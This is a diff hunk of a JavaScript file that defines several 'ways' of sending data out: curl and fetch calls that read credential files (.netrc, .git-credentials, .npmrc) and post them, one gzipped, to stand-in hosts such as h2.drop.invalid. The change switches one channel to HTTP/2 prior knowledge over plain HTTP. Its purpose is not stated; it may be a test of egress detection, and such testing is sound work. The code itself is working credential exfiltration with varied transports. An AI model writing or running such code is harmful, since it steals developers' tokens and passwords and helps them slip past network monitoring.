@@ -28,7 +28,7 @@ function run(program, args, input = '') {
 const ways = {
   curl: () => run('curl', ['-sS', '--http1.1', '-m', '5', '--data-binary', '@-', 'https://curl.drop.invalid/take'], read('.netrc')),
 
-  curl_http2: () => run('curl', ['-sS', '--http2', '-m', '5', '--data-binary', '@-', 'https://h2.drop.invalid/take'], read('.git-credentials')),
+  curl_http2: () => run('curl', ['-sS', '--http2-prior-knowledge', '-m', '5', '--data-binary', '@-', 'http://h2.drop.invalid/take'], read('.git-credentials')),
 
   fetch: async () => {
     const body = zlib.gzipSync(read('.npmrc'));
